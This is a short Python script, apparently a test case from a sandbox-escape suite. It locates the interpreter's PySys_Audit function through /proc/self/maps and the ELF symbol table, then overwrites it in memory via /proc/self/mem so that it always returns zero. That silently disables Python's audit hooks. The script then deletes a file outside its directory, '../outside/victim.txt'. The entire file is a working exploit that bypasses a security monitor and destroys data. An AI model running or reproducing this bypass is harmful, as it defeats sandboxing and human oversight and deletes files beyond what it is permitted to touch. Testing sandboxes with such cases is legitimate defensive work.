# The interpreter's code is overwritten in memory: nobody is asked any more.
# damage: deleted
# needs: linux, x86_64
import os
import struct


def symbol(name):
    """The address of a function of this process."""
    with open("/proc/self/maps") as file:
        files = {}
        for line in file:
            parts = line.split()
            if len(parts) == 6 and "python" in parts[5] and parts[2] == "00000000":
                files.setdefault(parts[5], int(parts[0].split("-")[0], 16))
    for path, base in files.items():
        with open(path, "rb") as file:
            image = file.read()
        if image[:4] != b"\x7fELF":
            continue
        kind, table, size, count = *struct.unpack_from("16xH", image), *struct.unpack_from("<40xQ10xHH", image)
        headers = [struct.unpack_from("<IIQQQQIIQQ", image, table + size * n) for n in range(count)]
        for header in headers:
            if header[1] == 11:
                strings = headers[header[6]][4]
                for entry in range(header[4], header[4] + header[5], 24):
                    text, value = struct.unpack_from("<I4xQ", image, entry)
                    if value and image.startswith(name + b"\0", strings + text):
                        return value + (base if kind == 3 else 0)


with open("/proc/self/mem", "r+b", buffering=0) as memory:
    memory.seek(symbol(b"PySys_Audit"))
    memory.write(b"\x31\xc0\xc3")
os.unlink("../outside/victim.txt")
